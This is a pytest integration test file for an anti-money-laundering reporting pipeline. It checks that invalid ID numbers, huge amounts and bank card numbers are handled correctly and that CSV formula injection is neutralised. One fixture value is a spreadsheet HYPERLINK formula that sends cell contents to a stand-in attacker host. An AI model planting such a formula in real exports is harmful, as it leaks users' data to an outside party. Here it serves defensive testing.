"""Single odd values must not stop the day (issue 14, "Crashes and silent losses").

One business day through every step (ingest -> dbt -> GX -> alerts -> reports -> ledger)
with the values that used to fail the whole day's dbt build:

- 18-character ``id_number`` values that are no valid resident ID (month 13 / day 32, a
  birth date in the future, an 18-character passport number): the party is still
  screened by name, with no birth date;
- money of any real size: a CNY 1e12 interbank-sized transfer, a USD 200 M transfer
  (converted to CNY and to USD), a USD 2 bn loan (its proceeds converted to CNY); each
  reported (large-value report, exceptions), amounts exact to the cent;
- an 11-digit amount (``14812345312.16``), which masking used to rewrite as a phone
  number (``148****5312.16``), breaking the large-value JSON's schema and the run;
- a customer named ``=HYPERLINK(...)`` (CSV injection) who receives money from a bank
  card (personal financial information: masked like an ID number).
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest

from regwatch.config import Settings
from tests.conftest import DAY, GOOD_ROWS
from tests.helpers import deliver, query, ran_day

pytestmark = pytest.mark.integration

INVALID_IDS = {
    "C2": "110101199913321234",  # month 13, day 32: the example
    "C3": "E12345678PASSPORT9",  # an 18-character passport number
    "C4": "110101209901011234",  # a birth date after the business date
}
TRILLION = Decimal("1000000000000.00")
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CARD = "6222020200112233446"  # 19-digit debit card number, Luhn-valid


def _csv_text(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


def _files() -> dict[str, bytes]:
    accounts = [
        ["A2", "C2", "individual", "Zhou Min", INVALID_IDS["C2"], "13900000002"],
        ["A3", "C3", "individual", "Karim Al-Masri", INVALID_IDS["C3"], "13900000003"],
        ["A4", "C4", "individual", "Sun Hao", INVALID_IDS["C4"], "13900000004"],
        ["A5", "C5", "entity", "Huabei Steel Group", "91110000100000000X", "01012345678"],
        ["A6", "C6", "individual", FORMULA_NAME, "110101198506071234", "13900000006"],
    ]
    account_rows = [[*a, "CN", "", "2024-01-05 10:00:00", "active", "2025-06-02 09:00:00"] for a in accounts]
    transactions = [
        # (txn, account, direction, amount, currency, channel, counterparty account, name, country)
        [
            "T2",
            "A5",
            "credit",
            f"{TRILLION}",
            "CNY",
            "transfer",
            "11050162510000000001",
            "Bank of Tianjin",
            "CN",
        ],
        ["T3", "A2", "debit", "200000000.00", "USD", "transfer", "11050162510000000002", "Li Qiang", "CN"],
        ["T4", "A3", "credit", "60000.00", "CNY", "cash", "", "", ""],
        # an 11-digit amount (no phone number), received from a bank card (masked like an ID)
        ["T5", "A6", "credit", "14812345312.16", "CNY", "transfer", CARD, "Zhang Wei", "CN"],
    ]
    txn_rows = [[t[0], t[1], "2025-06-02 12:00:00", *t[2:], "x"] for t in transactions]
    loan = (
        "L2,C5,enterprise,P-EI,,false,2025-06-02,2025-06-02,2000000000.00,USD,12,bullet,"
        "0.060000,0.00,active,,2025-06-02 09:00:00\n"
    )
    watchlist = _csv_text(
        [
            ["list_id", "name", "aliases", "date_of_birth", "country", "list_name"],
            ["W1", "Karim Al-Masri", "", "1975-03-04", "SY", "UN consolidated list"],
        ]
    )
    return {
        "accounts": GOOD_ROWS["accounts"].encode() + _csv_text(account_rows),
        "transactions": GOOD_ROWS["transactions"].encode() + _csv_text(txn_rows),
        "loans": GOOD_ROWS["loans"].encode() + loan.encode(),
        "watchlist": watchlist,
    }


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    tmp = tmp_path_factory.mktemp("odd_values")
    files = {name: text.encode() for name, text in GOOD_ROWS.items()} | _files()
    landing = deliver(tmp / "landing", DAY, files)
    return ran_day(tmp / "var", landing, DAY)  # raised TransformError before the fix


def test_invalid_resident_ids_are_screened_by_name_without_a_birth_date(run: Settings) -> None:
    parties = dict(
        query(
            run,
            "SELECT customer_id, date_of_birth FROM intermediate.int_screening_parties_collected "
            "WHERE party_role = 'customer'",
        )
    )
    assert parties["C1"] is not None and parties["C1"].isoformat() == "1990-03-07"  # a valid ID
    assert {c: parties[c] for c in INVALID_IDS} == dict.fromkeys(INVALID_IDS)
    # the passport holder is on the list: screened by name, the hit is an exception
    hits = query(
        run,
        "SELECT entity_key FROM results.exceptions WHERE rule_id = 'cn.aml.watchlist_customer_match'",
    )
    assert [k for (k,) in hits if str(k).startswith("C3|")]


def test_money_of_any_real_size_is_converted_exactly(run: Settings) -> None:
    rows = {
        str(r[0]): r[1:]
        for r in query(
            run,
            "SELECT transaction_id, amount_cny, amount_usd FROM intermediate.int_transactions_converted",
        )
    }
    assert rows["T2"][0] == TRILLION
    assert rows["T2"][1] == Decimal("139275766016.71")  # 1e12 / 7.18, to the cent
    assert rows["T3"] == (Decimal("1436000000.00"), Decimal("200000000.00"))
    moved = query(
        run,
        "SELECT net_disbursed_cny FROM marts.fct_loan_proceeds_outflows WHERE loan_id = 'L2'",
    )
    assert moved == [(Decimal("14360000000.00"),)]


def test_the_trillion_transfer_is_reported(run: Settings) -> None:
    exceptions = query(
        run,
        "SELECT rule_id, entity_key FROM results.exceptions WHERE entity_key LIKE 'C5|%'",
    )
    assert ("cn.aml.large_entity_transfer", "C5|2025-06-02|entity_transfer|credit") in exceptions
    folder = run.reports_dir / DAY.isoformat()
    content = json.loads((folder / "large_value_transactions.json").read_text(encoding="utf-8"))
    c5 = next(d for d in content["customer_days"] if d["customer_id"] == "C5")
    assert c5["amount_cny"] == "1000000000000.00"
    assert [t["amount"] for t in c5["transactions"]] == ["1000000000000.00"]
    c2 = next(d for d in content["customer_days"] if d["customer_id"] == "C2")
    assert [t["amount_cny"] for t in c2["transactions"]] == ["1436000000.00"]
    daily = (folder / "daily_exceptions.csv").read_text(encoding="utf-8")
    assert "C5|2025-06-02|entity_transfer|credit" in daily


def _published_text(settings: Settings) -> dict[str, str]:
    folder = settings.reports_dir / DAY.isoformat()
    return {p.name: p.read_text(encoding="utf-8") for p in sorted(folder.iterdir()) if p.suffix != ".pdf"}


def test_amounts_are_never_masked(run: Settings) -> None:
    folder = run.reports_dir / DAY.isoformat()
    content = json.loads((folder / "large_value_transactions.json").read_text(encoding="utf-8"))
    c6 = next(d for d in content["customer_days"] if d["customer_id"] == "C6")
    assert c6["amount_cny"] == "14812345312.16"
    assert [(t["amount"], t["amount_cny"]) for t in c6["transactions"]] == [("14812345312.16",) * 2]
    with (folder / "large_value_transactions.csv").open(newline="", encoding="utf-8") as handle:
        row = next(r for r in csv.DictReader(handle) if r["customer_id"] == "C6")
    assert row["amount_cny"] == "14812345312.16"
    for name, text in _published_text(run).items():
        assert "148****5312" not in text, name


def test_bank_card_numbers_are_masked_everywhere(run: Settings) -> None:
    folder = run.reports_dir / DAY.isoformat()
    content = json.loads((folder / "large_value_transactions.json").read_text(encoding="utf-8"))
    c6 = next(d for d in content["customer_days"] if d["customer_id"] == "C6")
    assert c6["transactions"][0]["counterparty_account"] == "622202*********3446"
    for name, text in _published_text(run).items():
        assert CARD not in text, name
    # a corporate account number is no card: shown as delivered
    c2 = next(d for d in content["customer_days"] if d["customer_id"] == "C2")
    assert c2["transactions"][0]["counterparty_account"] == "11050162510000000002"


def test_formula_names_are_neutralised_in_csv_only(run: Settings) -> None:
    folder = run.reports_dir / DAY.isoformat()
    with (folder / "large_value_transactions.csv").open(newline="", encoding="utf-8") as handle:
        row = next(r for r in csv.DictReader(handle) if r["customer_id"] == "C6")
    assert row["full_name"] == "'" + FORMULA_NAME
    assert row["amount_cny"] == "14812345312.16"
    content = json.loads((folder / "large_value_transactions.json").read_text(encoding="utf-8"))
    assert next(d for d in content["customer_days"] if d["customer_id"] == "C6")["full_name"] == FORMULA_NAME
    with (folder / "daily_exceptions.csv").open(newline="", encoding="utf-8") as handle:
        cells = [cell for r in csv.reader(handle) for cell in r]
    assert not [c for c in cells if c.startswith(("=", "@", "+"))]
